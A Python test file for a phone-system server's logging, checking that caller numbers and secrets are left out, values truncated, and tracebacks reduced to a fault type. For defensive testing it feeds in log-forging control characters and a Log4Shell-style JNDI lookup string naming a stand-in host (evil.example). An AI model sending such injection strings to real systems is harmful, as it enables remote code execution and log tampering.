"""Logs: one line for one event, with nothing in it that a caller has said or is."""

from __future__ import annotations

import ast
import json
import logging
from collections.abc import Iterator
from pathlib import Path

import pytest
import structlog

import ivr
from ivr.server.logs import FIELDS, LONGEST, configure
from tests.log_state import logging_as_before

NUMBER = "+442071838750"
ODD = ["\r\n", "\x1b]0;title\x07", "\x00", "\u2028", "\x85", "\ud800", "\u202e"]


@pytest.fixture(autouse=True)
def _as_before() -> Iterator[None]:
    with logging_as_before():
        yield


def lines(capsys: pytest.CaptureFixture[str]) -> list[str]:
    out, err = capsys.readouterr()
    assert out == ""
    return err.splitlines()


def entry(capsys: pytest.CaptureFixture[str]) -> dict[str, object]:
    [line] = lines(capsys)
    found: dict[str, object] = json.loads(line)
    return found


def test_a_line_is_one_json_object_with_a_time_and_a_level(
    capsys: pytest.CaptureFixture[str],
) -> None:
    configure()
    structlog.get_logger().warning("call_refused", call="one", seconds=1.5, missing=None)
    found = entry(capsys)
    assert found.pop("timestamp")
    assert found == {
        "event": "call_refused", "level": "warning", "call": "one", "seconds": 1.5, "missing": None,
    }  # fmt: skip


@pytest.mark.parametrize("field", ["caller", "digits", "body", "token", "url", "name", "exc_info"])
@pytest.mark.parametrize("as_json", [True, False])
def test_a_careless_field_is_left_out(
    capsys: pytest.CaptureFixture[str], field: str, as_json: bool
) -> None:
    configure(as_json=as_json)
    structlog.get_logger().error("slip", **{field: NUMBER})
    [line] = lines(capsys)
    assert NUMBER not in line


def test_only_so_much_of_a_value_is_kept(capsys: pytest.CaptureFixture[str]) -> None:
    configure()
    structlog.get_logger().error("x" * 1_000_000, reason="y" * 1_000_000, fault=["z"] * 100_000)
    found = entry(capsys)
    assert max(len(str(value)) for value in found.values()) == LONGEST


@pytest.mark.parametrize("odd", ODD)
@pytest.mark.parametrize("as_json", [True, False])
def test_no_value_forges_a_line_or_reaches_the_terminal(
    capsys: pytest.CaptureFixture[str], odd: str, as_json: bool
) -> None:
    configure(as_json=as_json)
    forged = f'{odd}{{"event": "all_is_well"}}'
    structlog.get_logger().error(forged, reason=forged)
    logging.getLogger("ivr.graph.keys").warning("keys: %s", forged)
    assert len(lines(capsys)) == 2
    configure(as_json=as_json)
    structlog.get_logger().error(forged, reason=forged)
    assert odd not in capsys.readouterr().err


def test_percent_and_braces_mean_nothing(capsys: pytest.CaptureFixture[str]) -> None:
    configure()
    structlog.get_logger().error("%s{}$", reason="${jndi:ldap://evil.example}%n{0.__class__}")
    assert entry(capsys)["reason"] == "${jndi:ldap://evil.example}%n{0.__class__}"


def test_what_is_below_the_level_is_not_written(capsys: pytest.CaptureFixture[str]) -> None:
    configure("error")
    structlog.get_logger().warning("nothing")
    logging.getLogger("ivr.graph").warning("nothing")
    assert lines(capsys) == []


def test_messages_of_libraries_come_in_the_same_form_without_what_they_fill_in(
    capsys: pytest.CaptureFixture[str],
) -> None:
    configure()
    logging.getLogger("some.library").warning("Number %s called.", NUMBER)
    found = entry(capsys)
    assert (found["event"], found["logger"]) == ("Number %s called.", "some.library")


def test_a_traceback_is_never_written_only_the_type_of_the_fault(
    capsys: pytest.CaptureFixture[str],
) -> None:
    configure()
    try:
        raise ValueError(NUMBER)
    except ValueError:
        logging.getLogger("some.server").exception("Exception in the application")
    found = entry(capsys)
    assert found["fault"] == "ValueError"
    assert NUMBER not in str(found)


def test_chatty_libraries_are_quiet(capsys: pytest.CaptureFixture[str]) -> None:
    configure("debug")
    for name in ("httpx", "msal", "urllib3", "uvicorn.access"):
        logging.getLogger(name).warning("GET https://ivr.example/recordings/secret.wav")
    assert lines(capsys) == []


def test_every_field_that_the_engine_logs_is_kept() -> None:
    package = Path(ivr.__file__).parent
    for path in [
        *package.glob("runtime/*.py"),
        *package.glob("server/*.py"),
        *package.glob("business/*.py"),
    ]:
        for call in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            assert _fields(call) <= FIELDS, f"{path.name} logs a field that is dropped"


def _fields(node: ast.AST) -> set[str]:
    if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
        return set()
    if not isinstance(node.func.value, ast.Name) or node.func.value.id != "log":
        return set()
    return {keyword.arg for keyword in node.keywords if keyword.arg is not None}
